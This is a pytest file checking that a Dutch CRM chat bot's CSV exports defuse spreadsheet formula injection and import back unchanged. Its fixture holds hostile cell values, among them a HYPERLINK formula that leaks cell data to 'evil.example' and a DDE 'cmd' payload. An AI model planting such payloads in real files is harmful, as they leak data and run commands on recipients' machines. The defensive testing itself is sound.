"""Exports are safe to open: no cell a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import Engine

from storage.exporting import neutralise
from storage.models import Client
from storage.tabular import read_table
from tests.chat import Chat
from tests.factories import make_client, make_event, make_sale, make_team, rows

ANNA = 11
# What a spreadsheet runs: these first characters, also after spaces when it trims cells.
RUNNABLE = re.compile(r"^[ \u00a0]*[=+\-@\t\r]")
HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")',
    "+31 6 1234 5678",
    "-2+3 korting",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "  +", "\u00a0@"])
def test_every_formula_start_is_neutralised_and_reads_back(start: str) -> None:
    cell = f"{start}1+1"
    safe = neutralise(cell)
    assert safe == "'" + cell and not RUNNABLE.match(safe)
    # The importer drops exactly that quote again (and trims the cell as it trims every cell).
    table = read_table("x.csv", f"Naam;Notities\r\nA;{_quoted(safe)}\r\n".encode())
    assert table.rows[0].cells[1] == cell.strip(" \u00a0\ufeff").strip()


def test_ordinary_text_is_left_alone() -> None:
    for text in ("Bakkerij de Vries", "'s-Hertogenbosch", "e-mail", "a=b", "100 %", ""):
        assert neutralise(text) == text


async def test_exported_files_hold_no_runnable_cell_and_import_back_unchanged(
    chat: Chat, sqlite_engine: Engine
) -> None:
    team = make_team(sqlite_engine, chat_id=ANNA, owner_id=ANNA, personal=True)
    for number, name in enumerate(HOSTILE_NAMES):
        client = make_client(
            sqlite_engine,
            team,
            name,
            city="=2+3",
            industry="@horeca",
            interests=["=x", "zeilen"],
            notes=["  =1+1", "\t=cmd", "\r=cmd", "-", "+"][number],
        )
        make_sale(sqlite_engine, team, client, 10_000 + number)
        make_event(
            sqlite_engine, team, client, "complaint", note=["=1+1", "@x", "-", "+", "ok"][number]
        )
    anna = chat.person(ANNA, "Anna", "nl")
    seen = await chat.send(anna, "/export")
    files = {m.document[0]: m.document[1] for m in seen.messages if m.document}
    assert set(files) == {"klanten.csv", "verkopen.csv", "geschiedenis.csv"}
    for name, content in files.items():
        cells = [c for row in _cells(content) for c in row]
        runnable = [c for c in cells if RUNNABLE.match(c)]
        assert runnable == [], f"{name}: {runnable}"
        assert any(c.startswith("'=HYPERLINK") for c in cells)
    before = {c.name: (c.city, c.notes) for c in rows(sqlite_engine, Client)}
    seen = await chat.upload(anna, "clients.csv", files["klanten.csv"])
    # Every name is found again; only the notes that began with spaces or a tab differ (the
    # importer trims cells), and the stored ones are kept.
    assert seen.text.splitlines() == [
        "Geïmporteerd: 5 regels gelezen.",
        "• 5 regels stonden er al, overgeslagen",
        "• 3 waarden weken af van wat ik had; ik heb de mijne gehouden",
        "Niets nieuws: dit had ik allemaal al.",
    ]
    assert {c.name: (c.city, c.notes) for c in rows(sqlite_engine, Client)} == before
    seen = await chat.upload(anna, "sales.csv", files["verkopen.csv"])
    assert "• 5 regels stonden er al, overgeslagen" in seen.text.splitlines(), seen.text
    seen = await chat.upload(anna, "history.csv", files["geschiedenis.csv"])
    assert "Niets nieuws: dit had ik allemaal al." in seen.text.splitlines(), seen.text


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def _quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'
